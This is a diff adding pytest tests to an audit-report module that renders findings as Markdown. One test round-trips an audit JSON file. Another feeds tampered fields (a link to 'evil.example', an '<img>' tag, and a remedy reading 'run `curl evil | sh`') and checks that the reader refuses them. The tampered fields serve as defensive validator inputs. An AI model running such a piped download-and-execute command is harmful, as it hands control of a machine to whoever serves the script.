@@ -1,7 +1,13 @@
 """The Markdown report: what others wrote can neither break out of it nor be active in it."""
 
+import json
+import subprocess
+import sys
+
+import pytest
+
 from canvas.audit.finding import Finding
-from canvas.audit.report import MOST, markdown
+from canvas.audit.report import MOST, document, markdown, read
 
 
 def finding(excerpt: str, kind: str = "course code", file: str = "a.jsonl") -> Finding:
@@ -43,3 +49,33 @@ def test_a_comment_can_hold_it():
     text = markdown(found, {})
     assert len(text) < MOST + 100
     assert text.endswith("Cut here; the log of the audit has all.\n")
+
+
+def test_read_back_and_printed_without_any_package(tmp_path):
+    found, counts = [finding("C* 1***")], {"files": 3, "kinds": {"course code": 1}}
+    path = tmp_path / "audit.json"
+    path.write_text(json.dumps(document(found, counts)), encoding="utf-8")
+    assert read(path) == (found, {"files": 3})
+    command = [sys.executable, "-S", "-m", "canvas.audit.report", str(path)]
+    printed = subprocess.run(command, capture_output=True, text=True, check=True).stdout
+    assert printed == markdown(found, {"files": 3})
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"kind": "[x](https://evil.example)"},
+        {"kind": "<img>"},
+        {"remedy": "run `curl evil | sh`"},
+        {"line": "3"},
+        {"more": 1},
+    ],
+)
+def test_what_no_audit_wrote_is_refused(tmp_path, change):
+    value = document([finding("x")], {"files": 1})
+    value["findings"][0] |= change
+    path = tmp_path / "audit.json"
+    for bad in (value, {"findings": []}, [], {"counts": {"](x)": 1}, "findings": []}):
+        path.write_text(json.dumps(bad), encoding="utf-8")
+        with pytest.raises(ValueError, match="no report of an audit"):
+            read(path)
